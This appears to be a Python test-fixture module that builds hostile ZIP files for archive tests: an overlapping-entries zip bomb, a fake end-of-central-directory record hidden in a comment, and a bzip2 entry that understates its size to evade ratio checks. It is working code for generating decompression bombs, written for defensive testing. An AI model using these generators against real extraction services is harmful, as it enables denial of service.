"""Hostile ZIPs built byte by byte for the archive tests: David Fifield's overlapping-entries bomb ("A better zip
bomb", 2019), a fake end record inside the comment, a file cut short."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass

_TIME = (0, 0x21)  # DOS time and date fields (1980-01-01)


@dataclass(frozen=True)
class _Entry:
    name: bytes
    flags: int
    method: int
    crc: int
    packed: int
    size: int
    offset: int


def _local(name: bytes, flags: int, method: int, crc: int, packed: int, size: int) -> bytes:
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, *_TIME, crc, packed, size, len(name), 0
    )
    return head + name


def _central(e: _Entry) -> bytes:
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            e.flags,
            e.method,
            *_TIME,
            e.crc,
            e.packed,
            e.size,
            len(e.name),
            0,
            0,
            0,
            0,
            0,
            e.offset,
        )
        + e.name
    )


def _encoded(name: str) -> tuple[bytes, int]:
    return name.encode("utf-8"), 0 if name.isascii() else 0x800


def overlap_bomb(
    plain: Sequence[tuple[str, bytes]], bomb_names: Sequence[str], kernel: bytes, comment: bytes = b""
) -> tuple[bytes, dict[str, bytes]]:
    """A ZIP holding `plain` entries (stored) followed by the overlapping bomb: each bomb file's compressed data
    is a non-final stored deflate block quoting the next file's local header, then that file's data, down to
    one shared deflated `kernel`; every file inflates to the headers after it plus the kernel, CRC and sizes
    all correct, so zipfile (3.11) extracts every one. Returns the ZIP and each bomb file's inflated bytes
    (computed without inflating, for a manifest)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail_packed = c.compress(kernel) + c.flush()
    tail_plain = kernel
    blocks: list[tuple[bytes, int, bytes, int, int, int]] = []  # name, flags, local header, crc, packed, size
    contents: dict[str, bytes] = {}
    for name in reversed(bomb_names):
        raw, flags = _encoded(name)
        crc = zlib.crc32(tail_plain)
        header = _local(raw, flags, 8, crc, len(tail_packed), len(tail_plain))
        blocks.append((raw, flags, header, crc, len(tail_packed), len(tail_plain)))
        contents[name] = tail_plain
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        tail_packed = quote + tail_packed
        tail_plain = header + tail_plain
    blocks.reverse()
    out = io.BytesIO()
    entries = []
    for name, data in plain:
        raw, flags = _encoded(name)
        crc = zlib.crc32(data)
        entries.append(_Entry(raw, flags, 0, crc, len(data), len(data), out.tell()))
        out.write(_local(raw, flags, 0, crc, len(data), len(data)) + data)
    offset = out.tell()
    for raw, flags, header, crc, packed, size in blocks:
        entries.append(_Entry(raw, flags, 8, crc, packed, size, offset))
        offset += len(header) + 5  # the next header follows this one's 5-byte stored-block header
    if blocks:  # the first header, then its data: every later header quoted in it, and the kernel
        out.write(blocks[0][2] + tail_packed[len(tail_packed) - blocks[0][4] :])
    _finish(out, entries, comment)
    return out.getvalue(), {n: contents[n] for n in bomb_names}


def plain_zip(entries: Sequence[tuple[str, bytes]], comment: bytes = b"") -> bytes:
    """A stored ZIP of `entries`, with `comment` written as it is."""
    out = io.BytesIO()
    written = []
    for name, data in entries:
        raw, flags = _encoded(name)
        crc = zlib.crc32(data)
        written.append(_Entry(raw, flags, 0, crc, len(data), len(data), out.tell()))
        out.write(_local(raw, flags, 0, crc, len(data), len(data)) + data)
    _finish(out, written, comment)
    return out.getvalue()


def _finish(out: io.BytesIO, entries: list[_Entry], comment: bytes) -> None:
    start = out.tell()
    out.write(b"".join(_central(e) for e in entries))
    n = len(entries)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n, n, out.tell() - start, start, len(comment)))
    out.write(comment)


def fake_end_record(entries: int = 0xFFFF) -> bytes:
    """An end-of-central-directory record claiming `entries`, to hide in a comment."""
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, 0, 0, 0)


def lying_bzip2(plain: Sequence[tuple[str, bytes]], name: str, inflated: int) -> bytes:
    """A stored ZIP of `plain` plus one bzip2 entry (method 12) of `inflated` zero bytes whose directories
    declare it 1,000 bytes: below every ratio check, while zipfile (3.11) hands bzip2 and LZMA data to the
    decompressor without a size limit (deflate alone is read a chunk at a time), so reading its first
    chunk inflates all of it at once — about 4 GB for each 4 KB of compressed data."""
    import bz2

    packed = bz2.compress(bytes(inflated))
    out = io.BytesIO()
    entries = []
    for entry_name, data in plain:
        raw, flags = _encoded(entry_name)
        crc = zlib.crc32(data)
        entries.append(_Entry(raw, flags, 0, crc, len(data), len(data), out.tell()))
        out.write(_local(raw, flags, 0, crc, len(data), len(data)) + data)
    raw, flags = _encoded(name)
    crc = zlib.crc32(bytes(1000))
    entries.append(_Entry(raw, flags, 12, crc, len(packed), 1000, out.tell()))
    out.write(_local(raw, flags, 12, crc, len(packed), 1000) + packed)
    _finish(out, entries, b"")
    return out.getvalue()
